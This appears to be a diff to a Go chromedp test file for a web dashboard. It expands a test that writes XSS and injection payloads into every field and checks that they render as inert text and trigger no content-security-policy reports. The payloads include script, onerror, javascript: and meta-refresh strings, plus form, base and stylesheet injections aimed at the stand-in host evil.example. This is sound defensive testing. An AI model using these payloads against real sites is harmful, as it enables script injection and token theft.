@@ -1,11 +1,13 @@
 package ui
 
 import (
+	"context"
 	"encoding/json"
 	"flag"
 	"fmt"
 	"net/http"
 	"net/http/httptest"
+	"net/url"
 	"os"
 	"strings"
 	"testing"
@@ -15,6 +17,9 @@ import (
 	"vaultwicket/gateway/state/audit"
 	"vaultwicket/tests/rig"
 
+	"github.com/chromedp/cdproto/cdp"
+	"github.com/chromedp/cdproto/emulation"
+	"github.com/chromedp/cdproto/page"
 	"github.com/chromedp/chromedp"
 	"github.com/chromedp/chromedp/kb"
 )
@@ -225,34 +230,76 @@ func TestALinkThatWasUsed(t *testing.T) {
 	b.until("the overview", overview)
 }
 
-// Hostile text in every field is text: no element, no script, no request, no message.
+// hostile are texts that would be elements, scripts, styles, addresses or templates.
+var hostile = []string{
+	`<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>"'--></title></textarea></select>`, `"><svg onload=window.hacked=1>`, `' onfocus='window.hacked=1' autofocus x='`, `javascript:window.hacked=1`,
+	`</style><style>*{background:url(//evil.example/)}</style>`, `{{.Token}}${window.hacked=1}`, "\u202e\u2066<iframe src=//evil.example>", `<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>`, `<form action=//evil.example><input name=token>`,
+	`![x](http://evil.example/x.png) [x](javascript:window.hacked=1) <a href="javascript:window.hacked=1">x</a>`, `<meta http-equiv=refresh content="0;url=//evil.example/">`,
+}
+
+// Hostile text in every field is text: no element, no script, no request, no message, and nothing
+// that the policy of the page had to stop.
 func TestHostileText(t *testing.T) {
-	evil := `<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>"'--></title></textarea></select>`
-	w := begin(t, func(r *rig.Rig) {
-		r.Write(`<img src=x onerror=window.hacked=1>.md`, evil+"\n")
-	})
+	const named = `<img src=x onerror=window.hacked=1>.md`
+	w := begin(t, func(r *rig.Rig) { r.Write(named, strings.Join(hostile, "\n\n")+"\n") })
 	state := w.Home + "/.local/state/vaultwicket"
 	client := w.Stdio(false, "")
-	client.Do(rig.Calling("append", `path=<img src=x onerror=window.hacked=1>.md`, "content="+evil))
-	client.Do(rig.Calling("delete", `path=<img src=x onerror=window.hacked=1>.md`))
+	client.Do(rig.Calling("append", "path="+named, "content="+strings.Join(hostile, "\n")))
+	client.Do(rig.Calling("delete", "path="+named))
 	logs := audit.OpenLogs(state)
-	line := audit.Line{Kind: "decision", Decision: "deny", Call: "s-1", Session: "s", Client: evil, Surface: evil, Vault: evil, Command: evil, Effect: evil, Rule: evil, Code: evil, Backend: evil, By: evil, Change: evil}
-	if err := logs.Write(line, true, false); err != nil {
-		t.Fatal(err)
-	}
-	q := consent.StoredQuestion{Session: "s", Client: evil, Vault: evil, Command: evil, Text: evil, Lines: []consent.Line{{Text: evil}, {Kind: consent.Added, Text: evil}}, Digest: consent.Digest{1}}
-	if _, err := consent.OpenStore(consent.Folder(state), time.Now).Ask(q); err != nil {
-		t.Fatal(err)
+	paths := []string{"", "agents", "activity", w.callPath(), "approvals", "changes", w.changePath(), w.changePath() + "&as=rendered", "policy/access", "policy/try", "settings", "health"}
+	for i, evil := range hostile {
+		line := audit.Line{Kind: "decision", Decision: "deny", Call: fmt.Sprintf("s-%d", i+1), Session: "s", Agent: evil, Client: evil, Surface: "stdio", Vault: evil, Command: evil, Effect: evil, Rule: evil, Code: evil, Backend: evil, By: evil, Change: evil, Note: logs.Digest(named)}
+		if err := logs.Write(line, true, false); err != nil {
+			t.Fatal(err)
+		}
+		q := consent.StoredQuestion{Session: "s", Client: strings.Trim(evil, "\u202e\u2066"), Vault: "Notes", Command: strings.Trim(evil, "\u202e\u2066"), Text: "x", Lines: []consent.Line{{Text: strings.Trim(evil, "\u202e\u2066")}, {Kind: consent.Added, Text: strings.Trim(evil, "\u202e\u2066")}}, Digest: consent.Digest{byte(i + 1)}}
+		if i < 8 { // a session has no more questions
+			if _, err := consent.OpenStore(consent.Folder(state), time.Now).Ask(q); err != nil {
+				t.Fatal(err)
+			}
+		}
+		escaped := url.QueryEscape(evil)
+		paths = append(paths, fmt.Sprintf("activity/call/s-%d", i+1), "activity?who="+escaped+"&q="+escaped+"&vault="+escaped+"&hour="+escaped, "policy/try?command="+escaped+"&params="+escaped, "changes?vault=Notes&note="+escaped+"&caller="+escaped)
 	}
 	b := w.open()
-	for _, path := range []string{"", "activity", w.callPath(), "activity/call/s-1", "approvals", "changes", w.changePath(), "policy/access"} {
+	b.run(chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
+		_, err := cdp.Call(ctx, t, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: `window.reports = []; addEventListener("securitypolicyviolation", e => reports.push(e.violatedDirective + " " + e.blockedURI), true)`})
+		return err
+	}))
+	for _, path := range paths {
 		b.visit(path)
 		b.until("the stream", `document.getElementById("live").classList.contains("on")`)
-		if value[bool](b, `Boolean(window.hacked) || document.images.length > 0 || document.scripts.length !== 1`) {
+		value[bool](b, `document.querySelectorAll("details").forEach(d => d.open = true), true`)
+		if value[bool](b, `Boolean(window.hacked) || document.images.length > 0 || document.scripts.length !== 1 || document.querySelectorAll("iframe, base, style, main a[href^='javascript'], form:not([action*='`+b.base[strings.Index(b.base[8:], "/")+8:]+`'])").length > 0`) {
 			t.Errorf("%q has elements of others: %s", path, value[string](b, `document.body.innerHTML`))
 		}
+		if reports := value[[]string](b, `reports`); len(reports) > 0 {
+			t.Errorf("%q: the policy stopped %q", path, reports)
+		}
 	}
-	if !strings.Contains(b.w.Read(`<img src=x onerror=window.hacked=1>.md`), "hacked") {
+	t.Logf("%d views, no report", len(paths))
+	if !strings.Contains(b.w.Read(named), "hacked") {
 		t.Error("the note was not written")
+	}
+}
+
+// On paper a difference is whole, on white, and without what is pressed.
+func TestPrint(t *testing.T) {
+	w := begin(t, func(r *rig.Rig) { r.Write("Long.md", strings.Repeat("line\n", 200)) })
+	w.Stdio(false, "").Do(rig.Calling("create", "path=Other.md", "content="+strings.Repeat("row\n", 200)))
+	b := w.open()
+	b.run(emulate("prefers-color-scheme=dark"))
+	b.visit(w.changePath())
+	b.run(chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
+		_, err := cdp.Call(ctx, t, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{Media: "print", Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: "dark"}}})
+		return err
+	}))
+	b.until("a page on white", `getComputedStyle(document.documentElement).backgroundColor === "rgb(255, 255, 255)"`)
+	if got := value[string](b, `[...document.querySelectorAll(".diff")].map(d => getComputedStyle(d).maxHeight + " " + (d.getBoundingClientRect().height >= 16 * d.querySelectorAll(".row").length)).join()`); got != "none true,none true" {
+		t.Errorf("differences are %s", got)
+	}
+	if shown := value[int](b, `[...document.querySelectorAll("header, button, .tabs")].filter(e => e.checkVisibility()).length`); shown > 0 {
+		t.Errorf("%d things to press are printed", shown)
 	}
 }
